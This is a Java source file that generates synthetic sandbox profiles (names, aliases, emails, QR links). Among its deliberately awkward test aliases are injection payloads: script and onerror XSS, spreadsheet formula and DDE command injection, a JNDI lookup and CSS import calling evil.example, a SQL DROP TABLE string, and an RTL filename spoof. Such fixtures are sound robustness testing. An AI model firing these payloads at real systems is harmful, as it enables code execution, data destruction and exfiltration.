package canopy.sandbox;

import java.util.List;
import java.util.Locale;

/** Names, aliases and addresses as people choose them, the awkward ones included. */
final class Names {

    private static final List<String> PLACES = List.of(
            "harbour",
            "cedar",
            "northwind",
            "lotus",
            "granite",
            "orchid",
            "summit",
            "delta",
            "meadow",
            "quartz",
            "bamboo",
            "falcon",
            "juniper",
            "lantern",
            "monsoon",
            "nimbus",
            "opal",
            "pioneer",
            "saffron",
            "willow");

    private static final List<String> TEAMS = List.of(
            "prod",
            "dev",
            "research",
            "support",
            "studio",
            "labs",
            "staging",
            "mobile",
            "search",
            "academy",
            "retail",
            "health");

    private static final List<String> OTHER_SCRIPTS =
            List.of("北京研发", "équipe-données", "команда", "深圳_客服", "dev_ops", "開発チーム", "قسم-البحث", "ομάδα");

    private static final String LONG =
            "The department for everything that no other department of this company wanted to look after, ";

    /** Aliases that break a page, an export or a log which takes them as they come. */
    private static final List<String> AWKWARD = List.of(
            "<script>alert('alias')</script>",
            "Müller & Söhne \"Labs\" <GmbH>",
            "=1+1",
            "شركة النور للتقنية",
            "北京智谱科技有限公司（研发一部）",
            "O'Brien & Sons",
            "🚀 Rocket 团队 👩‍💻",
            "+SUM(A1:A9)",
            "<img src=x onerror=alert(1)>",
            "חברת בדיקות בע\"מ",
            "@import url(//evil.example)",
            "-2+3+cmd|' /C calc'!A0",
            LONG.repeat(3) + "and then some",
            "${jndi:ldap://evil.example/a} {{7*7}}",
            "line one\nline two\tand a tab",
            "a\u202Egnp.exe",
            "Robert'); DROP TABLE accounts;--",
            "&lt;b&gt;already escaped&lt;/b&gt;",
            "100 % sure, 50 % off; \\ back / slash",
            "Zalgo t̷e̶x̴t̵ ﷽");

    private Names() {}

    static Profile profile(long id, long hash) {
        String place = PLACES.get(Hash.below(hash, 1, PLACES.size()));
        String team = TEAMS.get(Hash.below(hash, 2, TEAMS.size()));
        String plain = place + "-" + team + "-" + id;
        String name = id % 41 == 0 ? OTHER_SCRIPTS.get(Math.floorMod(id / 41, OTHER_SCRIPTS.size())) + "-" + id : plain;
        String alias = id % 17 == 0
                ? AWKWARD.get(Math.floorMod(id / 17, AWKWARD.size()))
                : capital(place) + " " + capital(team);
        String email = plain + "@" + place + ".example";
        String billing = id % 3 == 0 ? "billing@" + place + ".example" : "";
        String qr = id % 29 == 0 ? "https://" + place + ".example/qr/" + id + ".png?a=1&b=2" : "";
        return new Profile(name, alias, email, billing, qr);
    }

    private static String capital(String word) {
        return word.substring(0, 1).toUpperCase(Locale.ROOT) + word.substring(1);
    }
}
